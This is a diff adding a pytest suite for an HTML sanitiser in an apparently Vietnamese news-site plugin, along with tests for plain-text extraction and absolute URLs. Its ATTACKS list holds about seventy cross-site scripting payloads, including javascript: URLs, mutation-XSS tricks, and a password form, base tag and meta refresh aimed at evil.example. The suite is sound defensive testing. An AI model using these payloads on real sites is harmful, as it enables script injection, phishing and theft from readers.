@@ -1,0 +1,180 @@
+"""The one sanitiser: whatever an article holds, nothing active reaches a page."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from bs4 import BeautifulSoup, Comment, Tag
+from lxml import html as lxml_html
+
+from plugins.core.markup import absolute_addresses, plain_text, sanitise
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script\n>alert(1)</script\n>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>alert(1)",
+    "</p><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x oNeRrOr = 'alert(1)'>",
+    '<img src="x"onerror="alert(1)">',
+    "<img/src=x/onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img src='javascript:alert(1)'>",
+    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
+    '<img srcset="javascript:alert(1) 1x, x.jpg 2x" src="x.jpg">',
+    '<img src="x" style="background:url(javascript:alert(1))">',
+    "<a href=javascript:alert(1)>bấm</a>",
+    "<a href='JaVaScRiPt:alert(1)'>bấm</a>",
+    "<a href='java\nscript:alert(1)'>bấm</a>",
+    "<a href='java&#x09;script:alert(1)'>bấm</a>",
+    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>bấm</a>",
+    "<a href=' \x01javascript:alert(1)'>bấm</a>",
+    "<a href='vbscript:msgbox(1)'>bấm</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
+    "<a href='file:///etc/passwd'>bấm</a>",
+    "<a href='blob:https://evil.example/1'>bấm</a>",
+    "<a href='x' target='_blank' onclick='alert(1)'>bấm</a>",
+    '<a href="x" title=\'"><script>alert(1)</script>\'>bấm</a>',
+    "<p onmouseover=alert(1)>Chỉ thị 05</p>",
+    "<p style='position:fixed;inset:0'>Chỉ thị 05</p>",
+    "<p class='skip' id='noi-dung' tabindex=1>Chỉ thị 05</p>",
+    "<style>body{display:none}</style>",
+    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>bấm</text></a></svg>",
+    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math href='javascript:alert(1)'>bấm</math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=matkhau><button formaction=javascript:alert(1)>Gửi</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>tin</marquee>",
+    "<body onload=alert(1)>",
+    "<html><head><title>x</title></head><body background=javascript:alert(1)>",
+    "<!-- chú thích --><!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<!-- không đóng <p>Chỉ thị 05</p>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><?php echo 1 ?>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
+    "<p><b><i>không đóng <a href='x'>gì cả",
+    "<table><tr><td>ô<script>alert(1)</script>",
+    "<div><p>một</div>hai</p></div></div></article></main>",
+    "<p title=\"a > b\">Chỉ thị</p><p title='<script>'>05</p>",
+    "<custom-element onclick=alert(1)>tin</custom-element>",
+    "<a href='//evil.example/x' ping='https://evil.example' download>bấm</a>",
+    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
+    "<p>\u2028<\u200bscript>alert(1)</script></p>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+ACTIVE = {
+    *("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "base", "meta"),
+    *("link", "video", "audio", "source", "template", "noscript", "details", "marquee", "body", "html", "frame", "frameset", "applet"),
+    *("area", "map", "xmp", "plaintext", "dialog", "portal", "title", "head"),
+}
+SAFE_ADDRESS = re.compile(r"(?:https?:|mailto:|tel:|(?![a-z][a-z0-9+.-]*:))", re.IGNORECASE)
+
+
+def elements(markup: str, parser: str) -> list[Tag]:
+    soup = BeautifulSoup(f"<div>{markup}</div>", parser)
+    assert not soup.find_all(string=lambda text: isinstance(text, Comment)), "a comment stayed"
+    return [element for element in soup.find_all(True) if not (parser == "lxml" and element.name in ("html", "body"))]
+
+
+@pytest.mark.parametrize("parser", ["html.parser", "lxml"])
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_active_is_left_of_an_attack(attack: str, parser: str) -> None:
+    for element in elements(sanitise(attack), parser):
+        assert element.name not in ACTIVE, f"<{element.name}> stayed"
+        for name, value in element.attrs.items():
+            assert not name.lower().startswith("on"), f"{name} stayed"
+            assert name not in ("style", "srcset", "srcdoc", "action", "formaction", "ping", "target", "background"), f"{name} stayed"
+            if name in ("href", "src"):
+                assert SAFE_ADDRESS.match(re.sub(r"[\x00-\x20]", "", str(value))), f"{name}={value} stayed"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_does_not_leave_its_place_on_the_page(attack: str) -> None:
+    page = lxml_html.document_fromstring(f'<main id="main">{sanitise(attack)}</main><footer id="footer">hết</footer>')
+    footer = page.get_element_by_id("footer")
+    assert footer.getparent().tag == "body"
+    assert footer.text_content() == "hết"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_was_sanitised_is_left_as_it_is(attack: str) -> None:
+    assert sanitise(sanitise(attack)) == sanitise(attack)
+
+
+def test_what_a_news_text_holds_is_kept() -> None:
+    text = (
+        '<h2 id="ket-qua">Kết quả</h2><p>Chỉ thị <strong>05</strong>, <em>nêu gương</em> &amp; <sup id="fnref:1">1</sup></p>'
+        '<figure><img src="images/hop.jpg" alt="Hội trường">'
+        '<figcaption>Quang cảnh <span class="credit">Phan Hân</span></figcaption></figure>'
+        '<ol start="3"><li>một</li></ol><table><thead><tr><th scope="col">Năm</th></tr></thead>'
+        '<tbody><tr><td colspan="2" rowspan="2">2021</td></tr></tbody></table>'
+        "<blockquote><p>lời</p></blockquote><pre><code>x</code></pre><hr>"
+    )
+    assert sanitise(text) == text
+
+
+def test_links_to_other_sites_say_nothing_of_where_the_reader_came_from() -> None:
+    assert sanitise('<a href="https://dangcongsan.vn" title="Báo">x</a>') == (
+        '<a href="https://dangcongsan.vn" title="Báo" rel="noopener noreferrer">x</a>'
+    )
+
+
+def test_classes_that_are_not_ours_are_dropped() -> None:
+    assert sanitise('<span class="credit skip">A</span>') == '<span class="credit">A</span>'
+
+
+def test_attributes_hold_no_mark_that_could_be_taken_for_a_tag() -> None:
+    assert sanitise('<img alt="a > b <c>" src="x.jpg">') == '<img alt="a &gt; b &lt;c&gt;" src="x.jpg">'
+
+
+@pytest.mark.parametrize(
+    ("markup", "words"),
+    [
+        ("<p>Chỉ thị <b>05</b></p><p>Nghị quyết &amp; kết luận</p>", "Chỉ thị 05 Nghị quyết & kết luận"),
+        ("<ul><li>một</li><li>hai</li></ul>", "một hai"),
+        ("<p>dòng<br>khác</p>", "dòng khác"),
+        ('<p>a <img alt="x > y" src="x"> b</p>', "a b"),
+        ("<p>5 &lt; 7 &gt; 3</p>", "5 < 7 > 3"),
+        ("", ""),
+    ],
+)
+def test_the_words_of_a_text_are_taken_out(markup: str, words: str) -> None:
+    assert plain_text(sanitise(markup)) == words
+
+
+@pytest.mark.parametrize(
+    ("markup", "expected"),
+    [
+        ('<a href="../b.html">tin</a>', '<a href="https://bt.example/b.html">tin</a>'),
+        ('<a href="#muc">mục</a>', '<a href="https://bt.example/04/a.html#muc">mục</a>'),
+        ('<a href="mailto:a@b.vn">thư</a>', '<a href="mailto:a@b.vn">thư</a>'),
+        (
+            '<img src="x.jpg" srcset="a.jpg 1x, /b.jpg 2x">',
+            '<img src="https://bt.example/04/x.jpg" srcset="https://bt.example/04/a.jpg 1x, https://bt.example/b.jpg 2x"/>',
+        ),
+        ("", ""),
+    ],
+)
+def test_addresses_are_made_absolute(markup: str, expected: str) -> None:
+    assert absolute_addresses(markup, "https://bt.example/04/a.html") == expected
